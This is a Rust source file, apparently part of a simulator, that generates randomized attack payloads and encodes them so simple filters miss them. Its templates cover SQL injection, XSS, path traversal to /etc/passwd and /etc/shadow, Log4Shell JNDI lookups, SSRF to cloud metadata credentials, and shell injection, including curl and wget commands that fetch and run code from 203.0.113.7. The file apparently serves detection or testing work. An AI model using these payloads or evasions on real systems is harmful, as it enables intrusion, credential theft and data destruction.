//! Payloads as attackers write them: templates with chance in them, and ways to slip them past filters.

use std::fmt::Write as _;

use crate::simulate::random::Rng;

/// Against databases. `7` stands for a number, `K` for a name.
const SQL: [&str; 14] = [
    "7' OR '7'='7",
    "7) OR (7=7",
    "K' UNION SELECT K,7,NULL FROM K-- ",
    "-7 UNION ALL SELECT NULL,NULL,CONCAT(K,7)#",
    "K' AND 7=7-- K",
    "K' AND (SELECT 7 FROM (SELECT COUNT(*),CONCAT(7,FLOOR(RAND(0)*2))K FROM K GROUP BY K)K)-- ",
    "7; DROP TABLE K--",
    "K') ORDER BY 7-- ",
    "K' AND EXTRACTVALUE(7,CONCAT(0x7e,(SELECT K FROM K LIMIT 1)))-- ",
    "7 AND ASCII(SUBSTRING((SELECT K FROM K LIMIT 1),7,1))>7",
    "K' OR 7 BETWEEN 7 AND 7-- ",
    "K';EXEC xp_cmdshell('K')--",
    "7/**/AND/**/(SELECT/**/7)=7",
    "K' AND SLEEP(7)-- ",
];

/// Against browsers, shells, files and templates.
const OTHER: [&str; 16] = [
    "<script>K(7)</script>",
    "\"><img src=K onerror=K(7)>",
    "<svg/onload=K`7`>",
    "javascript:K(7)//",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fproc/self/environ",
    "/var/www/../../etc/shadow",
    "php://filter/convert.base64-encode/resource=K.php",
    ";cat /etc/passwd",
    "|curl http://203.0.113.7/K|sh",
    "$(wget -qO- http://203.0.113.7/K)",
    "`K;id`",
    "{{7*7}}",
    "${{K.__class__.__mro__[7]}}",
    "${jndi:ldap://203.0.113.7/K}",
    "http://169.254.169.254/latest/meta-data/iam/",
];

/// One payload; against the database for `sql` in a thousand.
pub(super) fn write(rng: &mut Rng, sql: u64) -> String {
    let template = if rng.chance(sql) { *rng.pick(&SQL) } else { *rng.pick(&OTHER) };
    let mut text = String::with_capacity(template.len() + 16);
    let mut before = ' ';
    for letter in template.chars() {
        match letter {
            '7' => _ = write!(text, "{}", rng.between(2, 9_999)),
            // Only where it stands alone: `K` in `LIKE` is a letter.
            'K' if !before.is_ascii_uppercase() => text.push_str(&name(rng)),
            letter => text.push(letter),
        }
        before = letter;
    }
    text
}

/// A name that nobody would have.
fn name(rng: &mut Rng) -> String {
    let length = rng.between(3, 7);
    (0..length).map(|_| char::from(b'a' + u8::try_from(rng.below(26)).unwrap_or(0))).collect()
}

/// `text` as part of a query, encoded as a tool would.
pub(super) fn encoded(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'~') {
            out.push(char::from(byte));
        } else {
            _ = write!(out, "%{byte:02X}");
        }
    }
    out
}

/// `text` encoded so that simple filters miss it.
pub(super) fn hidden(rng: &mut Rng, text: &str) -> String {
    match rng.below(4) {
        0 => encoded(&encoded(text)),
        1 => encoded(&text.replace(' ', "/**/")),
        2 => encoded(&mixed(rng, text)),
        _ => text.bytes().fold(String::new(), |mut out, byte| {
            _ = write!(out, "%{byte:02x}");
            out
        }),
    }
}

/// `text` in capitals and small letters by chance.
fn mixed(rng: &mut Rng, text: &str) -> String {
    let either = |letter: char, rng: &mut Rng| {
        if rng.chance(500) { letter.to_ascii_uppercase() } else { letter.to_ascii_lowercase() }
    };
    text.chars().map(|letter| either(letter, rng)).collect()
}
